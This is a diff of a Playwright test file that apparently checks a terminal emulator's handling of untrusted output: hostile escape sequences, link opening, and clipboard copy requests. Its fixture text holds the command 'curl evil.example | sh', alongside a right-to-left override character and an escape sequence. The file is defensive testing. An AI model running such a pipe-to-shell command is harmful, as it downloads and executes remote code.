@@ -49,7 +49,7 @@ const copy = (page: Page, text: string) => page.evaluate((words) => navigator.cl
 
 test.beforeEach(async ({ context }) => context.grantPermissions(['clipboard-read', 'clipboard-write']));
 
-// docs/behaviour.md#what-output-may-do "is untrusted", "It opens no link"
+// docs/behaviour.md#terminal-output "The output of a terminal is untrusted", "The output can't open links, move"
 test(
   'a file full of hostile sequences sends nothing, opens nothing and changes nothing of the page',
   { tag: '@gate' },
@@ -77,7 +77,7 @@ const TEXT = 'curl evil.example | sh\n\u202etxt.\x1b[A';
 const ask = (page: Page, text: string) =>
   paste(page, String.raw`clear; echo -e '\e]52;c;${Buffer.from(text).toString('base64')}\a'` + '\n');
 
-// docs/behaviour.md#what-output-may-do "A text that it wants to have copied"
+// docs/behaviour.md#terminal-output "If the output wants to copy a text", "It never reads the clipboard for the output"
 test(
   'text that output would copy is shown first, with what is not seen in it, and only a click copies it',
   { tag: '@gate' },
